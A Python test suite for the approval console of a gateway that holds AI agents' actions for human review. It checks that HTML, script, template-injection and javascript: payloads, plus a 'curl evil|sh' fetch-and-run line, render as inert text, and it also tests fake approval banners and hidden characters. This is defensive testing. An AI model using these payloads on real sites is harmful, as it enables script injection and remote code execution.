"""The console's pages show what is sealed, and nothing shown can become markup."""

import re
from dataclasses import replace
from html.parser import HTMLParser
from importlib.resources import files

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from jinja2 import Environment

from lictor.console import frame, pages
from lictor.console.frame import CONTENT_SECURITY_POLICY, HEADERS, draw
from lictor.console.pages import fits_together, must_confirm_end
from lictor.console.views import (
    AheadView,
    ArgumentView,
    AskView,
    FieldView,
    GroupView,
    HoldView,
    PartView,
    PreviewView,
    RowView,
    WayView,
)
from lictor.protocol.display import render

HOLD = HoldView(
    id="hold_1",
    agent="reporter",
    human="dana",
    task="task_1",
    purpose="weekly report",
    server="mail",
    kind="tool",
    tool="mail.send",
    effect="destructive",
    reversible=False,
    digest="sha256:" + "0" * 64,
    seal="sha256:" + "1" * 64,
    groups=(("leads",), ("security", "ops")),
    opened_at="2026-11-21 05:12:09 UTC",
    expires_at="2026-11-21 05:27:09 UTC",
    arguments=(ArgumentView(path="to", kind="string", text="x@evil.example"),),
)
ROW = RowView(
    id="hold_1",
    server="mail",
    tool="mail.send",
    kind="tool",
    effect="destructive",
    agent="reporter",
    human="dana",
    purpose="weekly report",
    ways=(WayView(groups=("leads",), people=1, proof=""),),
    short="0000 1111 2222",
    opened_ms=0,
    ago_ms=1_000,
    left_ms=600_000,
)
DIFF = PartView(title="/ws/a", lines=(("@", "@@ -1 +1 @@"), ("-", "old"), ("+", "new"), (" ", "")), left_out=3)
TABLE = PartView(title="rows", rows=(("table", "rows"), ("orders", "3")))
PREVIEW = PreviewView(kind="file", made_at="now", parts=(DIFF, TABLE), whole=True, rests_on=(("file", "/ws/a"),))
ATTACKS = [
    '<img src=x onerror=fetch("/approve/1")><!-- -->[OK](javascript:approve())',
    "</bdi></li></ol><script>alert(1)</script>",
    "\"' onmouseover='x' style='position:fixed' autofocus onfocus=\"x\"",
    "{{ 7*7 }}{% include '/etc/passwd' %}&lt;script&gt;",
    "<form action=//evil.example><button>Approve</button></form>",
    "javascript:alert(1)//\u202e\u200b\x00<svg/onload=x>",
]
TAGS = frozenset(
    [
        "html",
        "head",
        "meta",
        "title",
        "link",
        "script",
        "body",
        "header",
        "nav",
        "details",
        "summary",
        "a",
        "img",
        "span",
        "main",
        "section",
        "h1",
        "h2",
        "h3",
        "h4",
        "p",
        "form",
        "input",
        "label",
        "button",
        "textarea",
        "select",
        "option",
        "table",
        "caption",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "article",
        "div",
        "dl",
        "dt",
        "dd",
        "ol",
        "li",
        "ul",
        "bdi",
        "strong",
        "noscript",
    ]
)
ATTRIBUTES = frozenset(
    [
        "lang",
        "charset",
        "name",
        "content",
        "rel",
        "href",
        "class",
        "method",
        "action",
        "type",
        "value",
        "for",
        "id",
        "autocomplete",
        "required",
        "autofocus",
        "rows",
        "maxlength",
        "dir",
        "role",
        "aria-label",
        "aria-current",
        "aria-labelledby",
        "aria-live",
        "formnovalidate",
        "src",
        "defer",
        "hx-ext",
        "sse-connect",
        "hx-get",
        "hx-trigger",
        "hx-select",
        "hx-swap",
        "alt",
        "width",
        "height",
        "tabindex",
        "scope",
        "selected",
        "min",
        "max",
        "inputmode",
        "placeholder",
        "hidden",
        "data-passkey-challenge",
        "data-passkey-ids",
        "data-passkey-rp",
        "data-passkey-optional",
        "data-passkey-error",
        "data-passkey-off",
    ]
)
LINKS = re.compile(
    r"/|#main|/static/[a-z.-]+\?v=[0-9a-f]{12}|/[a-z]+|/(holds|tasks|approvals|requests)/[A-Za-z0-9%_.~/\-]*|/\?from=\d+"
)


class Page(HTMLParser):
    """What a browser would make of a page, flattened; `problems` is what it must never find."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.problems: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag not in TAGS or (tag == "script" and "src" not in dict(attrs)):
            self.problems.append(f"tag {tag}")
        for name, value in attrs:
            if name not in ATTRIBUTES:
                self.problems.append(f"attribute {name}")
            if name in {"href", "action", "src", "hx-get"} and not LINKS.fullmatch(value or ""):
                self.problems.append(f"link {value}")
        if len({name for name, _ in attrs}) != len(attrs):
            self.problems.append("attribute twice")

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.problems.append(f"comment {data!r}")

    def actions(self) -> list[str | None]:
        """Where its forms go."""
        return [attrs.get("action") for tag, attrs in self.tags if tag == "form"]

    def shape(self) -> list[tuple[str, str | None]]:
        """The structure, without the spans that depend on content."""
        return [(tag, attrs.get("class")) for tag, attrs in self.tags if tag not in {"span", "li"}]


def everything(text: str) -> HoldView:
    """A hold in which every free text is `text`."""
    return replace(
        HOLD,
        id=text,
        agent=text,
        human=text,
        task=text,
        purpose=text,
        server=text,
        kind=text,
        tool=text,
        effect=text,
        digest=text,
        groups=((text, text),),
        opened_at=text,
        expires_at=text,
        arguments=(ArgumentView(path=text, kind=text, text=text),),
        facts=(FieldView(label=text, text=text, note=text),),
        labels=(text,),
        agent_reason=text,
        why_not=text,
        seal=text,
        preview=PreviewView(
            kind=text,
            made_at=text,
            whole=False,
            parts=(
                PartView(title=text, text=text, warning=True),
                PartView(title=text, lines=((text[:1], text), ("+", text))),
                PartView(title=text, rows=((text, text), (text, text))),
            ),
            rests_on=((text, text),),
        ),
        ways=(WayView(groups=(text, text), people=2, proof=text, given=(text,)),),
        answered=(FieldView(label=text, text=text, note=text),),
        may_withdraw=True,
        ahead=AheadView(targets=(text,), currency=text, amount=7),
        ask=AskView(challenge=text, ids=text, rp_id=text, required=False),
    )


def framed(title: str = "t", user: str = "dana", csrf: str = "tok", **more: object) -> frame.Page:
    return frame.Page(title=title, nav="approvals", user=user, csrf=csrf, **more)  # type: ignore[arg-type]


def hold_page(hold: HoldView, **more: str) -> str:
    return pages.hold_page(framed(**more), hold)


def inbox_page(*rows: RowView, page: frame.Page | None = None, **more: object) -> str:
    values: dict[str, object] = {
        "tab": "waiting",
        "counts": {"waiting": 1, "ahead": 1, "unknown": 1},
        "mine": [GroupView(rows=rows, together=True)] if rows else [],
        "others": [GroupView(rows=rows)] if rows else [],
        "total_mine": len(rows),
        "total": 2 * len(rows),
        "start": 0,
        "stop": len(rows),
        "newer": "",
        "older": "/?from=50",
        "soon_ms": 120_000,
    }
    return draw("approvals.html", page or framed(live=True), **{**values, **more})


def message_page(title: str, text: str, user: str = "") -> str:
    return draw("message.html", framed(title=title, user=user), text=text, good=True)


def everywhere(text: str) -> RowView:
    """A row in which every free text is `text`."""
    way = WayView(groups=(text,), people=2, proof=text, given=(text,))
    return replace(
        ROW, id=text, server=text, tool=text, kind=text, effect=text, agent=text, human=text, purpose=text, ways=(way,)
    )


def all_pages(text: str) -> list[str]:
    hold = everything(text)
    page = framed(title=text, user=text, csrf=text, live=True)
    return [
        inbox_page(everywhere(text), page=page),
        pages.hold_page(page, hold),
        pages.hold_page(page, replace(hold, status=text)),
        pages.together_page(page, [hold, hold], more=1),
        draw("message.html", page, text=text, good=False),
        draw("together_done.html", page, done=[(text, text)]),
    ]


def controls_in(html: str) -> list[str]:
    return [char for char in html if not char.isprintable() and char != "\n"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_markup_in_any_field_stays_text(attack: str) -> None:
    """APRV-12: no tag, attribute, link or comment that the templates do not have."""
    for html in all_pages(attack):
        assert Page(html).problems == []


@given(st.text(max_size=60) | st.lists(st.sampled_from([*ATTACKS, *"<>\"'&`\n\\[]{}%/"]), max_size=6).map("".join))
@settings(max_examples=12, deadline=None)
def test_no_text_becomes_structure(text: str) -> None:
    """Whatever stands in the fields: no script, inline style or event handler, and the structure stays."""
    text = text.encode("utf-8", "replace").decode() or "x"
    alike = "\n".join("p" * len(line) for line in text.split("\n"))  # as long: what is long has to be read to its end
    for html, plain in zip(all_pages(text), all_pages(alike), strict=True):
        page = Page(html)
        assert page.problems == []
        assert [tag for tag, _ in page.shape() if tag in {"form", "button", "input"}] == [
            tag for tag, _ in Page(plain).shape() if tag in {"form", "button", "input"}
        ]


def test_the_check_finds_a_page_that_does_not_escape() -> None:
    """Control experiment: the same template text without autoescape is caught."""
    careless = Environment(autoescape=False).from_string("<p>{{ text }}</p>")
    assert all(Page(careless.render(text=attack)).problems for attack in (ATTACKS[0], ATTACKS[1], ATTACKS[5]))
    assert Page("<p style='x' onclick='y'></p>").problems == ["attribute style", "attribute onclick"]


def test_hidden_characters_are_seen() -> None:
    """APRV-06, APRV-10: the page holds no invisible or reordering character, but their names."""
    hidden = replace(
        everything("inv\u202efdp\u200b\U000e0041\x1b\x00\ufeff\ud800"),
        digest=HOLD.digest,
        id=HOLD.id,
        task=HOLD.task,
        seal=HOLD.seal,
        ask=None,
    )
    html = hold_page(replace(hidden, status="pending"), user="\u200bdana")
    assert controls_in(html) == []
    assert html.encode("utf-8")
    body = hold_page(
        replace(
            HOLD, arguments=(ArgumentView(path="p\u200b", kind="string", text="inv\u202efdp\u200b\U000e0041\x1b"),)
        ),
    )
    assert controls_in(body) == []
    for name in ("[U+202E]", "[U+200B]", "[U+E0041]", "\\x1b"):
        assert name in Page(body).text


def test_warnings_stand_before_the_content() -> None:
    """APRV-08, APRV-10: what is odd about any argument is said at the top."""
    arguments = (
        ArgumentView(path="url", kind="string", text="https://\u0430pple.com/"),
        ArgumentView(path="text", kind="string", text="ok\U000e0041\U000e0042"),
    )
    text = Page(hold_page(replace(HOLD, arguments=arguments))).text
    top = text[: text.index("What will be sent")]
    assert "xn--pple-43d.com" in top
    assert "mixed script" in top
    assert "2 invisible code points" in top
    assert "Look closely" not in hold_page(HOLD)


def test_every_argument_is_shown_whole() -> None:
    """APRV-03: nothing is left out of a long argument; size and digest are given."""
    text = " ".join(str(number) for number in range(20_000))
    page = Page(hold_page(replace(HOLD, arguments=(ArgumentView(path="t", kind="string", text=text),))))
    assert text in page.text
    assert f"{len(text)} bytes" in page.text


def test_a_fake_approval_stays_in_its_box() -> None:
    """APRV-14: a banner in an argument is numbered lines of that argument; the page's structure is as without it."""
    fake = "\n===== APPROVED BY GATEWAY =====\nAmount: 1 EUR\nEnd of the action\nApprove once"
    faked = hold_page(replace(HOLD, arguments=(ArgumentView(path="note", kind="string", text=fake),)))
    rows = re.findall(r"<li>(.*?)</li>", "".join(re.findall(r'<ol class="lines">.*?</ol>', faked, re.DOTALL)))
    assert sum("APPROVED BY GATEWAY" in row for row in rows) == 1
    assert all(row.startswith('<bdi class="t" dir="ltr">') for row in rows)
    outside = re.sub(r"<ol class=\"lines\">.*?</ol>", "", faked, flags=re.DOTALL)
    assert "APPROVED BY GATEWAY" not in outside
    assert outside.count("End of the action") == outside.count("Approve once") == 1


def test_the_models_words_stand_apart_and_last() -> None:
    """APRV-01: the reason is marked, comes after every argument, and is absent when there is none."""
    html = hold_page(replace(HOLD, agent_reason="Send the weekly report"))
    assert html.index("x@evil.example") < html.index("Written by the agent, not verified")
    assert html.index("Written by the agent, not verified") < html.index("Send the weekly report")
    assert "Written by the agent" not in hold_page(HOLD)


def test_the_buttons_come_after_the_end_and_deny_first() -> None:
    """APRV-02: nobody can approve before the end; pressing Enter never approves."""
    html = hold_page(HOLD)
    assert html.index("End of the action") < html.index('value="deny"') < html.index('value="approve"')
    assert html.rindex("x@evil.example") < html.index("End of the action")
    hidden = {attrs["name"]: attrs["value"] for tag, attrs in Page(html).tags if attrs.get("type") == "hidden"}
    assert hidden == {"csrf": "tok", "seal": HOLD.seal}


def test_long_content_asks_whether_it_was_read() -> None:
    """Approving something long takes one more deliberate act, which the server can check."""
    long = replace(HOLD, arguments=(ArgumentView(path="t", kind="string", text="ls" + "\n" * 400 + "curl evil|sh"),))
    assert must_confirm_end(long)
    assert 'name="seen_end" value="yes" required' in hold_page(long)
    assert not must_confirm_end(HOLD)
    assert "seen_end" not in hold_page(HOLD)


@pytest.mark.parametrize(
    "change", [{"status": "denied"}, {"may_answer": False, "why_not": "you asked for it yourself"}]
)
def test_what_cannot_be_answered_has_no_form(change: dict[str, object]) -> None:
    """A closed hold, or one of somebody who may not answer, has no button at all."""
    html = hold_page(replace(HOLD, **change))  # type: ignore[arg-type]
    assert Page(html).actions() == ["/logout"]
    assert str(change.get("why_not", "denied")) in html


def test_an_unknown_effect_looks_like_the_worst() -> None:
    """Fail closed in looks, too."""
    assert "effect-destructive" in hold_page(replace(HOLD, effect="harmless"))


def test_strings_and_numbers_differ_on_the_page() -> None:
    """The text "1" and the number 1 are different bytes, so they are different pages."""
    a, b = (replace(HOLD, arguments=(ArgumentView(path="n", kind=k, text="1"),)) for k in ("string", "number"))
    assert hold_page(a) != hold_page(b)


def test_inbox_and_messages_say_what_they_should() -> None:
    """Holds link to their page; empty lists say so; a message says its sentence."""
    html = inbox_page(ROW)
    assert 'href="/holds/hold_1"' in html
    assert "10 min left" in html
    assert "Nothing waits for you." in inbox_page()
    assert render("it’s done") in Page(message_page("Done", "it’s done")).text


def test_what_was_found_out_comes_first_and_whole() -> None:
    """The effect stands before the arguments; every line with its mark, and what is left out is said."""
    html = hold_page(replace(HOLD, preview=PREVIEW))
    assert html.index("What will happen") < html.index("What will be sent")
    assert '<li class="removed"><span class="mark">−</span><span class="hear">removed: </span>' in html
    assert '<li class="added"><span class="mark">+</span><span class="hear">added: </span>' in html
    assert "3 more lines not shown here" in html
    assert "<td>" in html
    assert "Look closely" not in html


def test_a_warning_of_the_preview_stands_before_everything() -> None:
    """A part that warns is named at the top, and so is an effect that is not wholly known."""
    alarm = PartView(title="DELETE without WHERE", text="all 120 rows", warning=True)
    html = hold_page(replace(HOLD, preview=replace(PREVIEW, parts=(DIFF, alarm), whole=False)))
    top = Page(html[: html.index("What will happen")]).text
    assert "not all of it could be found out" in top
    assert "DELETE without WHERE" in top
    assert "all 120 rows" in top
    assert html.index("part-warning") < html.index('class="part"')


def test_what_the_effect_hides_is_warned_about() -> None:
    """APRV-08, APRV-10: a look-alike in a line of a difference is named at the top like one of an argument."""
    part = PartView(title="/ws/a", lines=(("+", "see https://\u0430pple.com/"),))
    html = hold_page(replace(HOLD, preview=replace(PREVIEW, parts=(part,))))
    assert "xn--pple-43d.com" in html[: html.index("What will happen")]


PARTS = st.builds(
    PartView,
    title=st.sampled_from(["a", "b"]),
    text=st.sampled_from(["", "a", "a\nb"]),
    lines=st.lists(
        st.tuples(st.sampled_from("+- @"), st.sampled_from(["", "a", "a\n+ b", "+ b", " "])), max_size=2
    ).map(tuple),
    warning=st.booleans(),
    left_out=st.sampled_from([0, 0, 1]),
)


@given(st.lists(PARTS, max_size=2), st.lists(PARTS, max_size=2))
@settings(max_examples=60, deadline=None)
def test_two_effects_never_look_alike(one: list[PartView], other: list[PartView]) -> None:
    """Injective: pages with different previews differ; warnings are moved before the rest, so their order is compared apart."""

    def drawn(parts: list[PartView]) -> str:
        return hold_page(replace(HOLD, preview=replace(PREVIEW, parts=tuple(parts))))

    def order(parts: list[PartView]) -> list[PartView]:
        return sorted(parts, key=lambda part: not part.warning)

    assert (drawn(one) == drawn(other)) is (order(one) == order(other))


def test_the_check_finds_lines_that_are_joined() -> None:
    """Control experiment: drawn as one text, a line with a newline in it looks like two lines."""
    one, other = (("+", "a\n+ b"),), (("+", "a"), ("+", "b"))
    joined = ["\n".join(f"{mark} {text}" for mark, text in lines) for lines in (one, other)]
    assert joined[0] == joined[1]
    views = [
        replace(HOLD, preview=replace(PREVIEW, parts=(PartView(title="t", lines=lines),))) for lines in (one, other)
    ]
    assert hold_page(views[0]) != hold_page(views[1])


def test_together_each_action_is_whole_and_has_its_own_seal() -> None:
    """A page of several shows each in full before its one form, which has a seal for each and always asks whether all was read."""
    other = replace(
        HOLD, id="hold_2", seal="sha256:" + "2" * 64, arguments=(ArgumentView(path="to", kind="string", text="zoe"),)
    )
    html = pages.together_page(framed(), [HOLD, other], more=0)
    hidden = {attrs["name"]: attrs["value"] for tag, attrs in Page(html).tags if attrs.get("type") == "hidden"}
    assert hidden == {"csrf": "tok", "seal.hold_1": HOLD.seal, "seal.hold_2": other.seal}
    assert (
        html.index("x@evil.example") < html.index("End of action 1") < html.index("zoe") < html.index("End of action 2")
    )
    assert html.index("End of action 2") < html.index('value="deny"') < html.index('value="approve"')
    assert 'name="seen_end" value="yes" required' in html
    assert fits_together([HOLD] * 20)
    long = replace(HOLD, arguments=(ArgumentView(path="t", kind="string", text="x" * 40_000),))
    assert not fits_together([long, long])


def test_ahead_is_offered_only_where_it_is_given() -> None:
    """Without an `ahead` there is no button for it; with one its limits are fields."""
    assert 'value="ahead"' not in hold_page(HOLD)
    html = hold_page(replace(HOLD, ahead=AheadView(targets=("email a@b.example",), currency="EUR", amount=100)))
    names = {attrs.get("name") for tag, attrs in Page(html).tags if tag in {"input", "select"}}
    assert {"most", "most_value", "hours", "reach"} <= names
    assert html.index('value="approve"') < html.index('value="ahead"')


def test_a_passkey_is_asked_to_sign_the_seal() -> None:
    """The form says what is signed and by which keys; without a passkey nothing is said."""
    assert "data-passkey" not in hold_page(HOLD)
    ask = AskView(challenge="AAEC", ids="a b", rp_id="localhost", required=True)
    [form] = [attrs for tag, attrs in Page(hold_page(replace(HOLD, ask=ask))).tags if "data-passkey-challenge" in attrs]
    assert form["data-passkey-challenge"] == "AAEC"
    assert form["data-passkey-ids"] == "a b"
    assert "data-passkey-optional" not in form
    assert 'data-passkey-optional="yes"' in hold_page(replace(HOLD, ask=replace(ask, required=False)))


def test_the_policy_of_the_pages_allows_nothing_but_our_files() -> None:
    """The header is exactly the strict one, and templates and sheets need no more than it allows."""
    assert CONTENT_SECURITY_POLICY == (
        "default-src 'none'; style-src 'self'; script-src 'self'; connect-src 'self'; img-src 'self'; form-action 'self'; "
        "frame-ancestors 'none'; base-uri 'none'"
    )
    assert HEADERS["Content-Security-Policy"] == CONTENT_SECURITY_POLICY
    for sheet in (one for one in files("lictor.console").joinpath("static").iterdir() if one.name.endswith(".css")):
        css = sheet.read_text("utf-8")
        assert "url(" not in css, sheet.name
        assert "@import" not in css, sheet.name
    for template in files("lictor.console").joinpath("templates").iterdir():
        source = template.read_text("utf-8")
        assert not re.search(r"<script(?! src=)|<style|\sstyle=|\son\w+=|\|\s*safe\b|autoescape|javascript:", source), (
            template.name
        )
